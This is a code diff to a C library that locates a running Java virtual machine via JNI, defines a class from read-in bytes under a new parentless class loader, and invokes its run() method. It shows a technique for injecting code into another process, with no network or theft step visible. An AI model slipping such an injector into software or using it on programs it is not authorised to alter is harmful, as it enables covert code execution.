@@ -39,7 +39,10 @@ static bool is_program(const char *path) {
 /* ------------------------------------------------------------------ what it runs before it waits */
 
 /* Functions of JNI, by their numbers in its tables (chapters 4 and 5 of its specification). */
-enum { GET_ENV = 6, DEFINE_CLASS = 5, DELETE_LOCAL = 23, STATIC_METHOD = 113, CALL_STATIC_VOID = 141, EXCEPTION_CHECK = 228 };
+enum {
+    GET_ENV = 6, DEFINE_CLASS = 5, FIND_CLASS = 6, DELETE_LOCAL = 23, NEW_OBJECT = 28, METHOD = 33,
+    STATIC_METHOD = 113, CALL_STATIC_VOID = 141, EXCEPTION_CHECK = 228
+};
 #define JNI_VERSION 0x00010008
 #define CALL(table, number, result, ...) ((result (*)())(*(void ***)(table))[number])(table, __VA_ARGS__)
 
@@ -51,6 +54,17 @@ static size_t read_class(char *room, size_t size) {
     return n > 0 && (size_t)n < size ? (size_t)n : 0;
 }
 
+/* A class loader without a parent. Were the class defined by the JVM's first loader, which is asked before the class
+ * path, a class of the program that has its name would never be loaded. */
+static void *new_loader(void *jni) {
+    void *type = CALL(jni, FIND_CLASS, void *, "java/security/SecureClassLoader");
+    void *constructor = type ? CALL(jni, METHOD, void *, type, "<init>", "(Ljava/lang/ClassLoader;)V") : NULL;
+    void *loader = constructor ? CALL(jni, NEW_OBJECT, void *, type, constructor, (void *)NULL) : NULL;
+    if (!loader) _exit(1);
+    CALL(jni, DELETE_LOCAL, void, type);
+    return loader;
+}
+
 static void use_what_programs_use(void) {
     static char bytes[1 << 16];
     int (*machines)(void **, int, int *) = (int (*)(void **, int, int *))dlsym(RTLD_DEFAULT, "JNI_GetCreatedJavaVMs");
@@ -59,11 +73,12 @@ static void use_what_programs_use(void) {
     int count = 0;
     if (!size || !machines || machines(&machine, 1, &count) || count != 1) return;
     if (CALL(machine, GET_ENV, int, &jni, JNI_VERSION) || !jni) return;
-    void *class = CALL(jni, DEFINE_CLASS, void *, NULL, NULL, bytes, (int)size);
+    void *loader = new_loader(jni), *class = CALL(jni, DEFINE_CLASS, void *, NULL, loader, bytes, (int)size);
     void *method = class ? CALL(jni, STATIC_METHOD, void *, class, "run", "()V") : NULL;
     if (method) CALL(jni, CALL_STATIC_VOID, void, class, method);
     if (!method || CALL(jni, EXCEPTION_CHECK, unsigned char, 0)) _exit(1);
     CALL(jni, DELETE_LOCAL, void, class);
+    CALL(jni, DELETE_LOCAL, void, loader);
 }
 
 /* ------------------------------------------------------------------ where it waits */
